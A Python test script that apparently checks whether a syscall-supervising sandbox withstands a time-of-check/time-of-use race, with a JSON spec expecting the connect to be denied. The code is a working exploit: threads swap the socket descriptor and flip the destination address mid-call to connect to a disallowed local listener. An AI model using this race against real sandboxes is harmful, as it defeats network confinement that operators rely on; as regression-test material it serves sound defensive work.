"""A blocking connect() to the listed 192.0.2.1 (which never answers, so
the connection stays in progress) while one thread closes the descriptor
and opens a fresh socket on the same number, and another flips the
sockaddr to 127.0.0.1:PORT (the runner's listener). A supervisor that
starts the connection and then lets the call continue has the kernel
look up the descriptor and read the address again: the fresh socket
connects wherever the memory then says. The port is "*", so Landlock
checks nothing.

{
  "policy": {"version": 1, "native": {"ctypes": true}, "network": {"connect": ["192.0.2.1:*"]}},
  "args": ["PORT"],
  "oracle": {"no_connection": true},
  "expect": {"status": "ok",
             "events": [{"syscall": "connect", "rule": "network.connect", "action": "deny"}]}
}
"""
import ctypes
import os
import socket
import struct
import sys
import threading
import time

port = int(sys.argv[1])


def sockaddr(ip):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(ip) + bytes(8)


allowed, target = sockaddr("192.0.2.1"), sockaddr("127.0.0.1")
buf = ctypes.create_string_buffer(allowed, 16)
libc = ctypes.CDLL(None, use_errno=True)
stop = False
fdbox = [-1]


def flipper():
    while not stop:
        ctypes.memmove(buf, target, 16)
        ctypes.memmove(buf, allowed, 16)


def swapper():
    while not stop:
        fd = fdbox[0]
        if fd >= 0:
            new = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
            libc.dup2(new, fd)
            libc.close(new)
        time.sleep(0.001)


threading.Thread(target=flipper, daemon=True).start()
threading.Thread(target=swapper, daemon=True).start()
tv = struct.pack("ll", 0, 300000)
deadline = time.monotonic() + 2.5
while time.monotonic() < deadline:
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    libc.setsockopt(fd, socket.SOL_SOCKET, socket.SO_SNDTIMEO, tv, len(tv))
    fdbox[0] = fd
    libc.connect(fd, buf, 16)
    fdbox[0] = -1
    os.write(fd, b"hello from the sandbox") if libc.getpeername(fd, ctypes.create_string_buffer(16),
                                                             ctypes.byref(ctypes.c_uint32(16))) == 0 else None
    libc.close(fd)
stop = True
print("done")
